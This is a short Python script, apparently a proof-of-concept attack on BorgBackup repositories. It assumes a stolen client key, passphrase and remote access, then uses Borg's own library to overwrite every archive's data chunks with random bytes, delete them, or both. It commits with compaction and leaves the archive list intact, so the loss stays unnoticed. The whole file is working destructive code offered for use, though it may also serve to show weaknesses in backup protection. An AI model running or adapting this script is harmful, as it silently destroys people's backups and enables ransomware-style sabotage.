"""What somebody does who has a client's key, passphrase and vault: run on that client, with Borg's own Python.

    python3 attack.py put|delete|both VAULT      (BORG_RSH, BORG_PASSPHRASE in the environment)

It speaks to `borg serve` itself. `put` writes garbage over the data of all archives, `delete` deletes it, `both` does
either to half of it; the list of archives, which lies elsewhere, stays exactly as it was.
"""

import os
import sys

from borg.archive import Archive
from borg.archiver import Archiver
from borg.cache import Cache
from borg.helpers import Location, Manifest
from borg.logger import setup_logging
from borg.remote import RemoteRepository

how, where = sys.argv[1:]
setup_logging()
arguments = Archiver().parse_args(["list", where])
with RemoteRepository(Location(where), exclusive=True, args=arguments) as repository:
    manifest, key = Manifest.load(repository, (Manifest.Operation.WRITE,))
    with Cache(repository, key, manifest) as cache:
        chunks = {
            chunk.id: chunk.csize
            for info in manifest.archives.list()
            for item in Archive(repository, key, manifest, info.name, cache=cache).iter_items()
            for chunk in item.get("chunks", ())
        }
    for number, (chunk, size) in enumerate(chunks.items()):
        if how == "put" or (how == "both" and number % 2):
            repository.put(chunk, os.urandom(size), wait=True)
        else:
            repository.delete(chunk, wait=True)
    repository.commit(compact=True)
print(len(chunks))
